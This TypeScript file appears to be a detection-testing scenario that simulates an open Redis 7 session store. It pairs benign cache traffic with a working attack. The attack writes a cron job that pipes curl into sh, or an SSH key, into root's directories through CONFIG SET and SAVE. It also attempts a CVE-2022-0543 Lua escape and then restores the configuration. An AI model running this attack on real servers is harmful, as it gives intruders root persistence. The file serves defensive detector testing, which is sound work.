/**
 * Redis 7 as a web application's cache and session store, left open the way
 * exposed instances are found: no password, running as root, runtime CONFIG
 * allowed. The attack is the classic file write: point the database file at
 * a directory that matters (root's crontab spool or ~/.ssh), put a payload
 * in a key, SAVE, then put the configuration back to hide it. Persistence is
 * off, so normal traffic never writes a file: the SAVE is the attack's own.
 */
import type { Prng } from '../../detect/lib/prng.js';
import { RedisClient, type RedisValue } from '../clients/redis.js';
import type { Scenario, ScenarioContext } from '../types.js';

const USERS = ['ada', 'brian', 'chen', 'dana', 'emil', 'fatou', 'goran', 'hana', 'ines', 'jonas'];
const PAGES = ['home', 'search', 'product', 'cart', 'checkout', 'help', 'blog', 'about'];
const QUEUES = ['mail', 'thumbnails', 'invoices'];

const CONFIG = [
  'bind 127.0.0.1',
  'protected-mode no',
  'daemonize no',
  'logfile ""',
  // No snapshots and no append-only file: normal traffic never writes to disk.
  'save ""',
  'appendonly no',
  'dir /var/lib/redis',
  'dbfilename dump.rdb',
  // The weakness: Redis 7 refuses CONFIG SET dir unless this is on.
  'enable-protected-configs yes',
  '',
].join('\n');

const ALPHANUM = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789';
const token = (rng: Prng, n: number) => Array.from({ length: n }, () => ALPHANUM[rng.int(ALPHANUM.length)]).join('');

function check(what: string, got: RedisValue, ok: (v: RedisValue) => boolean): void {
  if (!ok(got)) throw new Error(`redis ${what}: unexpected reply ${JSON.stringify(got)}`);
}

export const redisConfig: Scenario = {
  name: 'redis-config',
  application: 'Redis 7 as a session store and cache (no password, runs as root)',
  attackKind: 'unauthenticated CONFIG SET dir/dbfilename → file write (cron job or SSH key)',
  attack: 'an unauthenticated client points the database file at the crontab spool or /root/.ssh, stores a cron line or SSH key, SAVEs it there and restores the configuration',
  image: {
    name: 'redis-config',
    packages: ['redis-server'],
    files: { '/etc/redis/app.conf': CONFIG },
    // The directories the attack aims at, as a host with cron and SSH has them.
    setup: 'mkdir -p /var/lib/redis /root/.ssh /var/spool/cron/crontabs\nchmod 700 /root/.ssh\nchmod 1730 /var/spool/cron/crontabs',
  },
  command: (ctx) => ['/usr/bin/redis-server', '/etc/redis/app.conf', '--port', String(ctx.port)],
  async ready(ctx) {
    const c = await RedisClient.connect(ctx.port, 2000);
    try {
      check('PING', await c.call('PING'), (v) => v === 'PONG');
    } finally {
      c.close();
    }
  },
  async session(ctx: ScenarioContext, rng: Prng) {
    const user = USERS[rng.int(USERS.length)]!;
    const c = await RedisClient.connect(ctx.port);
    const run = (...args: (string | number)[]) => {
      ctx.log(args.map((a) => (String(a).length > 40 ? `<${String(a).length} bytes>` : String(a))).join(' '));
      return c.call(...args);
    };
    try {
      // A page view: the session is looked up (or created), then a few things the page does.
      const sid = `session:${token(rng, 16)}`;
      if (rng.float() < 0.6) {
        const body = JSON.stringify({ user, csrf: token(rng, 24), cart: Array.from({ length: rng.int(6) }, () => 1 + rng.int(400)) });
        await run('SET', sid, body, 'EX', 300 + rng.int(3300));
      }
      await run('GET', sid);
      const steps = 1 + rng.int(6);
      for (let i = 0; i < steps && !ctx.signal.aborted; i++) {
        const pick = rng.float();
        if (pick < 0.25) {
          const page = PAGES[rng.int(PAGES.length)]!;
          await run('INCR', `views:${page}`);
          if (rng.float() < 0.3) await run('GET', `views:${PAGES[rng.int(PAGES.length)]!}`);
        } else if (pick < 0.45) {
          const q = `queue:${QUEUES[rng.int(QUEUES.length)]!}`;
          await run('LPUSH', q, JSON.stringify({ user, job: token(rng, 8), size: rng.int(5000) }));
          await run('LTRIM', q, 0, 99);
          if (rng.float() < 0.5) await run('LRANGE', q, 0, rng.int(10));
        } else if (pick < 0.65) {
          const key = `user:${user}`;
          if (rng.float() < 0.4) await run('HSET', key, 'name', user, 'lastSeen', 1_700_000_000 + rng.int(10_000_000), 'theme', rng.float() < 0.5 ? 'dark' : 'light');
          await run('HGETALL', key);
        } else if (pick < 0.8) {
          const key = `cache:${PAGES[rng.int(PAGES.length)]!}:${rng.int(50)}`;
          await run('GET', key);
          // A miss filled in: drawn, not read from the reply, so the same seed gives the same actions whatever expired.
          if (rng.float() < 0.4) await run('SET', key, 'x'.repeat(64 + rng.int(4000)), 'EX', 30 + rng.int(600));
        } else if (pick < 0.9) {
          await run('EXPIRE', sid, 300 + rng.int(3300));
        } else {
          await run('DEL', `cache:${PAGES[rng.int(PAGES.length)]!}:${rng.int(50)}`);
        }
      }
      if (rng.float() < 0.15) await run('DEL', sid);
    } finally {
      c.close();
    }
  },
  async attackRun(ctx, rng) {
    const c = await RedisClient.connect(ctx.port, 10_000);
    const run = (...args: (string | number)[]) => {
      ctx.log(args.map(String).join(' ').replace(/\n/g, '\\n'));
      return c.call(...args);
    };
    try {
      // Look around first, as scanners do.
      await run('INFO', 'server');
      const dir = (await run('CONFIG', 'GET', 'dir')) as string[];
      const file = (await run('CONFIG', 'GET', 'dbfilename')) as string[];
      await run('DBSIZE');
      // The Lua sandbox escape of Debian's Redis (CVE-2022-0543); patched here, attackers try it anyway.
      await run('EVAL', 'local l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); local io = l(); local f = io.popen("id", "r"); local r = f:read("*a"); f:close(); return r', 0).catch(() => null);
      // The payload between blank lines: cron and sshd skip the rest of the RDB file as garbage lines.
      const key = token(rng, 6);
      const cron = rng.float() < 0.5;
      const payload = cron
        ? `\n\n*/${1 + rng.int(5)} * * * * curl -fsSL http://127.0.0.1:${20000 + rng.int(20000)}/${token(rng, 6)}.sh | sh\n\n`
        : `\n\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI${token(rng, 43)} ${token(rng, 5)}@${token(rng, 6)}\n\n`;
      await run('SET', key, payload);
      await run('CONFIG', 'SET', 'dir', cron ? '/var/spool/cron/crontabs' : '/root/.ssh');
      await run('CONFIG', 'SET', 'dbfilename', cron ? 'root' : 'authorized_keys');
      await run('SAVE');
      // Cover the tracks: the configuration back as it was, the key gone.
      await run('CONFIG', 'SET', 'dir', dir[1] ?? '/var/lib/redis');
      await run('CONFIG', 'SET', 'dbfilename', file[1] ?? 'dump.rdb');
      await run('DEL', key);
    } finally {
      c.close();
    }
  },
  // CONFIG SET dir is a chdir; SAVE writes a temporary file, fsyncs it, renames it into place and fdatasyncs the directory.
  evidence: ['chdir', 'fsync', 'rename', 'fdatasync'],
};
